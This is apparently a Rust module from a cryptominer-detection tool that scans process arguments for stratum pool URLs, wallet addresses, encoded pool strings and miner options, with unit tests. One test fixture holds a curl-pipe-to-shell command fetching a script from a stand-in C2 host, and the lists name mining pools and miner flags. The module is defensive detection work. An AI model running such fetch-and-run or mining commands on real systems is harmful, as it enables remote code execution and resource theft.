//! What a process says of itself in its arguments.

use super::indicators::{Endpoint, Indicators, is_name_below};
use super::rules::{Lists, Signal, holds};
use super::signals::Seen;
use crate::saying::said;
use crate::wallet;

/// The three alignments of each word in base64, as it stands inside a longer text.
const ENCODED: [&[u8]; 6] = [
    b"c3RyYXR1bSt0Y3A6Ly",
    b"N0cmF0dW0rdGNwOi8v",
    b"zdHJhdHVtK3RjcDovL",
    b"LS1kb25hdGUtbGV2ZWw9",
    b"0tZG9uYXRlLWxldmVsP",
    b"tLWRvbmF0ZS1sZXZlbD",
];

/// Options after which the next word is a pool.
const POOL_OPTIONS: [&[u8]; 6] = [b"-o", b"--url", b"--pool", b"-epool", b"-P", b"--server"];

/// Every word of every argument: a miner's wrapper may pass several in one.
fn words(argv: &[Vec<u8>]) -> Vec<&[u8]> {
    argv.iter()
        .skip(1)
        .flat_map(|argument| argument.split(|b| b.is_ascii_whitespace()))
        .filter(|word| !word.is_empty())
        .collect()
}

/// What the arguments say; the first is the process's own name.
pub(super) fn signals(argv: &[Vec<u8>], lists: &Lists, indicators: &Indicators) -> Vec<Seen> {
    let words = words(argv);
    let mut seen = Vec::new();
    let mut once = |signal: Signal, value: String| {
        if !seen.iter().any(|known: &Seen| known.signal == signal) {
            seen.push(Seen::new(signal).field("value", value));
        }
    };
    for (at, word) in words.iter().enumerate() {
        let before = at.checked_sub(1).map(|at| words[at]);
        if scheme(word).is_some_and(|scheme| holds(&lists.pool_schemes, scheme)) {
            once(Signal::StratumUrl, said(word));
        }
        if let Some(address) = wallet::monero(word) {
            once(Signal::MoneroWallet, said(address.as_bytes()));
        }
        if let Some(address) = wallet::evm_with_worker(word) {
            once(Signal::EvmWallet, said(address.as_bytes()));
        }
        if ENCODED
            .iter()
            .any(|code| word.windows(code.len()).any(|run| run == *code))
        {
            once(Signal::EncodedPool, said(word));
        }
        let algorithm = match before {
            Some(b"-a" | b"--algo" | b"--coin") => Some(*word),
            _ => value_of(word, &[b"--algo", b"--coin"]),
        };
        if let Some(name) = algorithm.filter(|name| holds(&lists.algorithms, name)) {
            once(Signal::Algorithm, said(name));
        }
        if word.starts_with(b"--bench=") || word.starts_with(b"--stress") && words.contains(&&b"--bench"[..]) {
            once(Signal::Benchmark, said(word));
        }
    }
    seen.extend(pool_name(&words, lists, &indicators.pools));
    seen.extend(indicator_name(&words, &indicators.remotes));
    seen.extend(options(&words, lists));
    seen.extend(gpu_options(&words));
    seen.extend(minergate(argv));
    seen
}

fn scheme(word: &[u8]) -> Option<&[u8]> {
    let end = word.windows(3).position(|run| run == b"://")?;
    let start = word[..end]
        .iter()
        .rposition(|b| !(b.is_ascii_alphanumeric() || *b == b'+'))
        .map_or(0, |at| at + 1);
    // `-ostratum+tcp://` is glued to its option.
    let name = &word[start..end];
    Some(if word.starts_with(b"-o") && start == 1 {
        &name[1..]
    } else {
        name
    })
}

fn value_of<'a>(word: &'a [u8], options: &[&[u8]]) -> Option<&'a [u8]> {
    options
        .iter()
        .find_map(|option| word.strip_prefix(*option)?.strip_prefix(b"="))
}

/// A pool by name or address, where a miner would have it: after a pool's option, in a pool's scheme, or as `name:port`.
/// Addresses of the web (`https://api.POOL/`) are no pools.
fn pool_name(words: &[&[u8]], lists: &Lists, pools: &[Endpoint]) -> Option<Seen> {
    words.iter().enumerate().find_map(|(at, word)| {
        let after_option = at.checked_sub(1).is_some_and(|at| POOL_OPTIONS.contains(&words[at]));
        let scheme = scheme(word);
        if scheme.is_some_and(|scheme| scheme.eq_ignore_ascii_case(b"http") || scheme.eq_ignore_ascii_case(b"https")) {
            return None;
        }
        let end = value_of(word, &[b"--url", b"--pool", b"--server"]).unwrap_or(word);
        let end = match end.windows(3).position(|run| run == b"://") {
            Some(at) => &end[at + 3..],
            None => end.strip_prefix(b"-o").unwrap_or(end),
        };
        let (end, name, port) = ends(end);
        let has_port = port.is_some_and(|port| !port.is_empty() && port.iter().all(u8::is_ascii_digit));
        if !has_port && !after_option && scheme.is_none() {
            return None;
        }
        let listed = lists.pools.iter().find(|pool| is_name_below(name, pool.as_bytes()));
        let known = listed.or_else(|| Some(&pools.iter().find(|pool| pool.is_named(name))?.text))?;
        Some(
            Seen::new(Signal::PoolName)
                .field("value", said(end))
                .field("pool", said(known.as_bytes())),
        )
    })
}

/// A host with its port, the host alone, the port alone; what stands before and behind in an address of the web left out.
fn ends(word: &[u8]) -> (&[u8], &[u8], Option<&[u8]>) {
    let end = word.split(|b| *b == b'/').next().unwrap_or(word);
    let end = end.rsplit(|b| *b == b'@').next().unwrap_or(end);
    match end.iter().rposition(|b| *b == b':') {
        Some(at) => (end, &end[..at], Some(&end[at + 1..])),
        None => (end, end, None),
    }
}

/// What an alarm names, as a word of its own or in an address of any scheme.
fn indicator_name(words: &[&[u8]], remotes: &[Endpoint]) -> Option<Seen> {
    if remotes.is_empty() {
        return None;
    }
    words.iter().find_map(|word| {
        let rest = match word.windows(3).position(|run| run == b"://") {
            Some(at) => &word[at + 3..],
            None => word,
        };
        let (end, name, _) = ends(rest);
        let known = remotes
            .iter()
            .find(|remote| remote.is_named(name) || remote.is_named(end))?;
        Some(
            Seen::new(Signal::IndicatorName)
                .field("value", said(end))
                .field("indicator", said(known.text.as_bytes())),
        )
    })
}

fn options(words: &[&[u8]], lists: &Lists) -> Option<Seen> {
    let named = |list: &[String], word: &[u8]| {
        let name = word.split(|b| *b == b'=').next().unwrap_or(word);
        list.iter().find(|option| option.as_bytes() == name).cloned()
    };
    let only: Vec<String> = words
        .iter()
        .filter_map(|word| named(&lists.miner_only_options, word))
        .collect();
    if only.is_empty() {
        return None;
    }
    let mut found: Vec<String> = words
        .iter()
        .filter_map(|word| named(&lists.xmrig_options, word).or_else(|| named(&lists.xmrig_short_options, word)))
        .collect();
    found.sort();
    found.dedup();
    let signal = match found.len() {
        0..=2 => return None,
        3..=4 => Signal::XmrigOptions,
        _ => Signal::ManyXmrigOptions,
    };
    Some(
        Seen::new(signal)
            .field("count", found.len().to_string())
            .field("value", said(found.join(" ").as_bytes())),
    )
}

/// lolMiner and its like want algorithm, pool and user in long options; the Claymore family `-epool` and `-ewal`.
fn gpu_options(words: &[&[u8]]) -> Option<Seen> {
    let has = |name: &[u8]| {
        words
            .iter()
            .any(|word| *word == name || value_of(word, &[name]).is_some())
    };
    let claymore = has(b"-epool") && has(b"-ewal");
    let modern = has(b"--algo") && has(b"--pool") && has(b"--user");
    (claymore || modern).then(|| {
        Seen::new(Signal::GpuMinerOptions).field(
            "value",
            if claymore {
                "-epool -ewal"
            } else {
                "--algo --pool --user"
            },
        )
    })
}

/// `minergate-cli -user MAIL -xmr`, also all in one argument.
fn minergate(argv: &[Vec<u8>]) -> Option<Seen> {
    let all: Vec<&[u8]> = argv
        .iter()
        .flat_map(|argument| argument.split(|b| b.is_ascii_whitespace()))
        .filter(|word| !word.is_empty())
        .collect();
    let program = all.first()?.rsplit(|b| *b == b'/').next()?;
    let named = program.starts_with(b"minergate");
    let user = all.iter().any(|word| *word == b"-user" || *word == b"--user");
    (named && user).then(|| Seen::new(Signal::MinergateOptions).field("value", said(&all.join(&b' '))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::judge::rules::shipped;
    use proptest::prelude::*;

    fn codes(line: &str) -> Vec<&'static str> {
        let argv: Vec<Vec<u8>> = line.split('|').map(|word| word.as_bytes().to_vec()).collect();
        let pools = ["203.0.113.9:3333".to_owned(), "pool.example".to_owned()];
        let indicators = Indicators::new(&pools, &["c2.example".to_owned(), "198.51.100.7".to_owned()]);
        signals(&argv, &shipped().lists, &indicators)
            .iter()
            .map(|seen| seen.signal.code())
            .collect()
    }

    #[test]
    fn arguments() {
        let rows: [(&str, &[&str]); 26] = [
            ("x|-o|stratum+tcp://h:1", &["stratum_url"]),
            ("x|-ostratum+tcp://h:1", &["stratum_url"]),
            (
                "x|--url=stratum+ssl://pool.supportxmr.com:443",
                &["stratum_url", "pool_name"],
            ),
            ("x|-o|pool.supportxmr.com", &["pool_name"]),
            ("x|gulf.moneroocean.stream:10128", &["pool_name"]),
            ("x|-o|203.0.113.9:3333", &["pool_name"]),
            ("x|a.pool.example:1", &["pool_name"]),
            ("sh|-c|curl http://a.c2.example/i.sh | sh", &["indicator_name"]),
            ("x|198.51.100.7:4444", &["indicator_name"]),
            ("x|--server=c2.example", &[]),
            ("x|c2.example.org", &[]),
            ("x|notpool.example:1", &[]),
            ("cat|zpool.cache", &[]),
            ("x|zpool.cache:1", &[]),
            ("curl|https://api.nanopool.org/v1/xmr/price", &[]),
            ("gcc|-o|pool.o|-c|pool.c", &[]),
            ("python3|train.py|--algo|adamw|--user|u|--pass|p", &[]),
            ("x|-a|rx/0", &["algorithm"]),
            ("x|--coin=monero|--url=h|--tls", &["algorithm", "xmrig_options"]),
            ("x|-o|h|-u|w|-k|--donate-level|1|--tls", &["many_xmrig_options"]),
            ("x|-o|h|-u|w|-p|x|-k|-a|y|-B", &[]),
            ("sh|-c|echo c3RyYXR1bSt0Y3A6Ly9hCg== | base64 -d", &["encoded_pool"]),
            (
                "lolMiner|--algo|ETCHASH|--pool|h:1|--user|w.r",
                &["algorithm", "gpu_miner_options"],
            ),
            ("minergate-cli -user a@b.c -xmr", &["minergate_options"]),
            ("x|--bench=1M", &["benchmark"]),
            ("", &[]),
        ];
        for (line, expected) in rows {
            assert_eq!(codes(line), expected, "{line}");
        }
    }

    proptest! {
        #[test]
        fn no_arguments_panic(argv: Vec<Vec<u8>>, glued in "-o?[:/.@=a-z]{0,12}") {
            let lists = shipped().lists;
            signals(&argv, &lists, &Indicators::default());
            let odd = Indicators::new(&[":".to_owned(), String::new()], &["a".to_owned(), "::1".to_owned()]);
            signals(&[b"x".to_vec(), glued.into_bytes()], &lists, &odd);
        }
    }
}
